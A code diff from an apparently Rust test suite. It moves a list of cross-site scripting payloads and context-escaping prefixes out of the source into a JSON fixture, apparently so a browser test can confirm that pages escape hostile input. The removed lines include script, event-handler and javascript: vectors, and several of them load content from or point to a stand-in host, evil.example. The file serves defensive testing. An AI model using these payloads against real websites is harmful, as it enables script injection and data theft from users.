@@ -32,60 +32,20 @@ use crate::model::names::ProfileName;
 /// A text without anything that markup could be made of.
 const HARMLESS: &str = "harmless";
 
-/// What is known to have worked somewhere.
-const PAYLOADS: [&str; 36] = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<object data=javascript:alert(1)>",
-    "<embed src=javascript:alert(1)>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<form action=//evil.example><button>",
-    "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>*{background:url(//evil.example)}</style>",
-    "<math><mi xlink:href=javascript:alert(1)>x",
-    "<details open ontoggle=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<video><source onerror=alert(1)>",
-    "<body onload=alert(1)>",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<textarea></textarea><script>alert(1)</script>",
-    "<!--><script>alert(1)</script-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version='1.0'?><x/>",
-    "javascript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "onmouseover=alert(1)",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "{{constructor.constructor('alert(1)')()}}",
-    "${alert(1)}",
-    "\u{202e}<script>\u{202c}",
-    "\u{0}<\u{0}script\u{0}>",
-    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
-    "-->]]>*/</script></style></title></textarea></select></option></noscript>",
-];
-
-/// What gets a text out of an attribute, an element or a comment.
-const BREAKS: [(&str, &str); 6] = [
-    ("", ""),
-    ("\"", "\""),
-    ("'", "'"),
-    ("\">", ""),
-    ("'>", "<!--"),
-    ("</textarea></title>", "<x y=\""),
-];
+/// Texts that are known to have worked somewhere, and what gets one out of an attribute, an element or a comment. `tests/it/hostile.rs`
+/// has a browser look at the pages that show them.
+#[derive(serde::Deserialize)]
+struct HostileTexts {
+    payloads: Vec<String>,
+    breaks: Vec<(String, String)>,
+}
 
 fn texts() -> Vec<String> {
-    let all = PAYLOADS
+    let texts: HostileTexts = serde_json::from_str(include_str!("../../../tests/browser/hostile.json")).unwrap();
+    let all = texts
+        .payloads
         .iter()
-        .flat_map(|text| BREAKS.iter().map(move |(before, after)| format!("{before}{text}{after}")));
+        .flat_map(|text| texts.breaks.iter().map(move |(before, after)| format!("{before}{text}{after}")));
     all.collect()
 }
 
